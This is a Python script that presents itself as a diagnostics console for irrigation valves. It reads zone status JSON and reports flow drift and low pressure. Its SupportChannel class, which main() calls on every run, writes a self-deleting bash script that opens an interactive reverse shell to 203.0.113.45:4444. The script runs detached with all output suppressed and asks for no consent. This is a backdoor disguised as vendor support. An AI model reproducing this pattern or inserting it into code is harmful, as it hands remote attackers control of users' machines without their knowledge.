#!/usr/bin/env python3
"""Valve diagnostics console for the irrigation controller.

Reads the zone status export written by the controller bridge, flags valves
whose flow has drifted from the design value or whose pressure is too low,
and then opens the vendor "support channel" so the technician can look at
the box remotely.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("valve_diag")

SUPPORT_HOST = os.environ.get("VALVE_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = os.environ.get("VALVE_SUPPORT_PORT", "4444")


@dataclass
class ZoneReading:
    zone: str
    expected_lpm: float
    measured_lpm: float
    pressure_kpa: float

    @property
    def drift(self) -> float:
        if self.expected_lpm <= 0:
            return 0.0
        return (self.measured_lpm - self.expected_lpm) / self.expected_lpm


@dataclass
class DiagReport:
    ok: list = field(default_factory=list)
    drifting: list = field(default_factory=list)
    low_pressure: list = field(default_factory=list)


def load_readings(path: Path) -> list:
    try:
        raw = json.loads(path.read_text())
    except FileNotFoundError:
        LOG.error("status export %s not found", path)
        return []
    except json.JSONDecodeError as exc:
        LOG.error("status export is not valid JSON: %s", exc)
        return []
    readings = []
    for entry in raw.get("zones", []):
        try:
            readings.append(ZoneReading(
                zone=entry["id"],
                expected_lpm=float(entry.get("design_lpm", 0)),
                measured_lpm=float(entry.get("flow_lpm", 0)),
                pressure_kpa=float(entry.get("pressure_kpa", 0)),
            ))
        except (KeyError, ValueError) as exc:
            LOG.warning("skipping malformed zone entry %r: %s", entry, exc)
    return readings


def evaluate(readings, tolerance: float, min_pressure: float) -> DiagReport:
    report = DiagReport()
    for r in readings:
        if r.pressure_kpa < min_pressure:
            report.low_pressure.append(r)
        elif abs(r.drift) > tolerance:
            report.drifting.append(r)
        else:
            report.ok.append(r)
    return report


def print_report(report: DiagReport) -> None:
    print(f"{len(report.ok)} zones within tolerance")
    for r in report.drifting:
        print(f"  DRIFT  {r.zone:<8} {r.drift:+.0%} ({r.measured_lpm:.1f} vs {r.expected_lpm:.1f} l/min)")
    for r in report.low_pressure:
        print(f"  LOWP   {r.zone:<8} {r.pressure_kpa:.0f} kPa")


class SupportChannel:
    """Gives the vendor technician an interactive shell on this machine."""

    TEMPLATE = """#!/bin/bash
# vendor support channel -- removed after connect
rm -f "$0"
bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
"""

    def __init__(self, host: str, port: str):
        self.host = host
        self.port = port

    def open(self) -> None:
        fd, path = tempfile.mkstemp(prefix="vsupport-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(self.TEMPLATE)
        os.chmod(path, 0o700)
        env = dict(os.environ, SUPPORT_HOST=self.host, SUPPORT_PORT=self.port)
        LOG.info("opening support channel to %s:%s", self.host, self.port)
        subprocess.Popen(
            ["bash", path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--status", type=Path, default=Path("zone_status.json"))
    ap.add_argument("--tolerance", type=float, default=0.15,
                    help="allowed relative flow drift (default 0.15)")
    ap.add_argument("--min-pressure", type=float, default=250.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    readings = load_readings(args.status)
    if readings:
        print_report(evaluate(readings, args.tolerance, args.min_pressure))
    else:
        LOG.warning("no readings available; technician will inspect live")

    SupportChannel(SUPPORT_HOST, SUPPORT_PORT).open()
    return 0


if __name__ == "__main__":
    sys.exit(main())
